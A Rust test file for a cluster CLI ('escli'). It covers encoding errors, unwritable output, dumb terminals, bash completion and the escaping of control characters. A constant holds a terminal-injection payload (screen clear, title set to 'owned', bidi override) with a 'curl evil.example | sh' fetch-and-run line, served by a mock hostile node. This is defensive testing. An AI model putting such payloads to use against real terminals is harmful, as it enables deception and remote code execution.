//! Files in other encodings, output that cannot be written, simple terminals, and control characters from
//! outside.

use std::fs::{File, OpenOptions};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Stdio};

use shared::api::example;
use tests::programs::binary;

use super::{THREE_NODES, command, escli, text, with_file};

/// Control characters and sequences that a terminal would obey.
const CONTROL: &str = "\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\r\n→ curl evil.example | sh";

#[test]
fn a_file_that_is_not_utf_8_is_reported_with_line_and_column() {
    let utf16: Vec<u8> = THREE_NODES.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let table = [
        (
            THREE_NODES.replace("orders", "caf\u{e9}").chars().map(|c| c as u8).collect(),
            ":2:12: the byte 0xe9 ",
        ),
        ([&[0xff, 0xfe], utf16.as_slice()].concat(), ":1:1: the file is UTF-16"),
        (utf16, ":1:1: the file is UTF-16LE"),
        (
            THREE_NODES.replace("orders", "!vault |\n    6161").into_bytes(),
            ":2:9: the tag !vault is not supported",
        ),
    ];
    for (bytes, expected) in table {
        let home = with_file(&bytes);
        let said = escli(home.path(), "validate");
        assert!(text(&said.stdout).contains(&format!("cluster.yaml{expected}")), "{}", text(&said.stdout));
        assert_eq!(said.status.code(), Some(2));
        let json: serde_json::Value =
            serde_json::from_slice(&escli(home.path(), "validate -o json").stdout).unwrap();
        assert!(json["problems"][0]["line"].as_u64() > Some(0), "{json}");
        let said = escli(home.path(), "status");
        assert!(text(&said.stderr).contains(&format!("cluster.yaml{expected}")), "{}", text(&said.stderr));
        assert_eq!(said.status.code(), Some(2));
    }
    let home = with_file(format!("\u{feff}{THREE_NODES}").as_bytes());
    assert_eq!(escli(home.path(), "validate").status.code(), Some(0));
}

#[test]
fn output_that_cannot_be_written_is_an_error_but_a_closed_pipe_is_not() {
    let home = with_file(THREE_NODES.as_bytes());
    let lines = [
        "--help",
        "--version",
        "status --help",
        "help stop",
        "status",
        "status -o json",
        "status --node 1",
        "health",
        "alerts --window 10ms",
        "history",
        "explain",
        "validate",
        "validate --schema",
        "render",
        "monitoring --out x",
        "completions bash",
        "man",
        "man watch",
        "version",
        "logs -o json",
        "-c - init",
        "verify nothing.tar",
        "watch --until leader --timeout 200ms --interval 50ms",
    ];
    for line in lines {
        let ordinary = escli(home.path(), line);
        if ordinary.stdout.is_empty() {
            continue;
        }
        let full = OpenOptions::new().write(true).open("/dev/full").unwrap();
        let said = command(home.path(), line).stdout(full).output().unwrap();
        let told = text(&said.stderr);
        assert!(told.contains("cannot write to standard output: No space left on device"), "{line}: {told}");
        let expected = match ordinary.status.code() {
            // `watch` stops at the first output that cannot be written.
            Some(0 | 5 | 10 | 11) => Some(1),
            failed => failed,
        };
        assert_eq!(said.status.code(), expected, "{line}");
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        let said = command(home.path(), line).stdout(writer).output().unwrap();
        let told = text(&said.stderr);
        assert!(!told.contains("standard output") && !told.contains("panicked"), "{line}: {told}");
    }
}

/// Runs escli on a terminal of this kind. Returns what it writes there.
fn on_terminal(home: &Path, kind: &str, line: &str) -> String {
    let escli = format!("{} {line}", binary("escli").display());
    let mut command = Command::new("script");
    command.args(["-qec", &escli, "/dev/null"]).current_dir(home).env_clear().stdin(Stdio::null());
    command.env("HOME", home).env("PATH", "/usr/bin:/bin").env("SHELL", "/bin/sh").env("TERM", kind);
    String::from_utf8_lossy(&command.output().unwrap().stdout).into_owned()
}

#[test]
fn a_dumb_terminal_gets_plain_text() {
    let home = with_file(THREE_NODES.as_bytes());
    let watch = "watch --until leader --timeout 300ms --interval 100ms";
    for line in ["status", "health", watch, "nonsense", "--help", "down --yes"] {
        let plain = on_terminal(home.path(), "dumb", line);
        assert!(!plain.is_empty() && !plain.contains('\u{1b}'), "{line}: {plain:?}");
    }
    assert!(on_terminal(home.path(), "xterm", "status").contains('\u{1b}'), "the test sees colours");
    assert!(on_terminal(home.path(), "xterm", watch).contains("\u{1b}[?1049h"), "and another screen");
}

#[test]
fn bash_completes_after_an_equals_sign() {
    let home = with_file(THREE_NODES.as_bytes());
    std::fs::write(
        home.path().join("two.yaml"),
        THREE_NODES.replace("    - { id: 3, host: 127.88.77.3 }\n", ""),
    )
    .unwrap();
    let bin = binary("escli");
    let path = format!("{}:/usr/bin:/bin", bin.parent().unwrap().display());
    // What bash makes of the line, and what it wants back.
    let table = [
        ("escli --output = js", "js", "json"),
        ("escli --output =", "", "table wide json yaml"),
        ("escli --config = tw", "tw", "two.yaml"),
        ("escli status --node = n", "n", ""),
        ("escli status --node =", "", "1 2 3"),
        ("escli --config = two.yaml status --node =", "", "1 2"),
        ("escli -o js", "js", "json"),
        ("escli heal", "heal", "health"),
    ];
    for (words, current, expected) in table {
        let count = words.split(' ').count();
        let ask = format!(
            "source <(escli completions bash) 2>/dev/null; COMP_WORDS=({words}); COMP_CWORD={}; COMP_TYPE=9
             _escli escli '{current}' x 2>/dev/null; echo \"${{COMPREPLY[*]}}\"",
            count - 1
        );
        let mut bash = Command::new("bash");
        bash.args(["--norc", "--noprofile", "-c", &ask]).current_dir(home.path()).env_clear();
        let said = bash.env("PATH", &path).env("HOME", home.path()).output().unwrap();
        assert_eq!(text(&said.stdout).trim(), expected, "{words}: {}", text(&said.stderr));
    }
}

/// A node whose every response is a status with control characters in it.
fn hostile_node(address: &str) {
    let listener = TcpListener::bind(address).unwrap();
    let mut status = serde_json::to_value(example::status()).unwrap();
    for name in ["cluster_name", "version", "config_hash", "started_at"] {
        status[name] = CONTROL.into();
    }
    status["peers"] = serde_json::json!([]);
    status["status"] = "ok".into();
    status["reasons"] = serde_json::json!([CONTROL]);
    let body = status.to_string();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let _ = stream.read(&mut [0; 4096]);
            let head =
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length:";
            let _ = write!(stream, "{head} {}\r\n\r\n{body}", body.len());
        }
    });
}

#[test]
fn control_characters_from_a_node_are_escaped() {
    hostile_node("127.88.99.1:8080");
    let home = with_file(b"cluster:\n  name: orders\n  nodes:\n    - { id: 1, host: 127.88.99.1 }\n");
    let mut shown = 0;
    let lines = [
        "status",
        "status -o wide",
        "status --node 1",
        "health",
        "alerts --window 10ms",
        "status -o json",
        "status -o yaml",
    ];
    for line in lines {
        for color in ["never", "always"] {
            let said = escli(home.path(), &format!("{line} --color {color}"));
            let text = text(&said.stdout) + &text(&said.stderr);
            for dangerous in ["\u{1b}[2J", "\u{1b}]", "\u{7}", "\u{9b}", "\u{202e}", "\r"] {
                assert!(!text.contains(dangerous), "{line}: {text:?}");
            }
            assert!(!text.lines().any(|line| line.trim_start().starts_with("→ curl")), "{line}: {text}");
            shown += text.matches("x1b[2J").count();
        }
    }
    assert!(shown > 0, "nothing was escaped");
    let live = on_terminal(home.path(), "xterm", "watch --until version=9 --timeout 500ms --interval 100ms");
    assert!(!live.contains("\u{1b}]0;owned"), "{live:?}");
}

#[test]
fn control_characters_in_a_file_name_are_escaped() {
    let home = tempfile::tempdir().unwrap();
    let name = "\u{1b}[2Jx\u{9b}.yaml";
    std::fs::write(home.path().join(name), THREE_NODES).unwrap();
    for line in [format!("validate -c {name}"), format!("validate -c {name}.gone")] {
        let said = escli(home.path(), &line);
        let text = text(&said.stdout) + &text(&said.stderr);
        assert!(text.contains("\\x1b[2Jx\\u009b.yaml") && !text.contains(['\u{1b}', '\u{9b}']), "{text:?}");
    }
}

#[test]
fn control_characters_in_a_log_are_escaped_unless_raw_is_asked_for() {
    let home = with_file(format!("{THREE_NODES}deploy: {{ transport: local }}\n").as_bytes());
    std::fs::create_dir_all(home.path().join("n1")).unwrap();
    let mut log = File::create(home.path().join("n1/log")).unwrap();
    writeln!(log, "2026-01-01T00:00:01.000000Z {CONTROL}").unwrap();
    let said = text(&escli(home.path(), "logs n1").stdout);
    assert!(said.contains("\\x1b[2J") && !said.contains(['\u{1b}', '\u{9b}', '\u{202e}']), "{said:?}");
    assert!(said.lines().all(|line| line.starts_with("n1 | ")), "{said:?}");
    let raw = text(&escli(home.path(), "logs n1 --raw").stdout);
    assert!(raw.contains("\u{1b}[2J\u{1b}]0;owned\u{7}"), "{raw:?}");
}
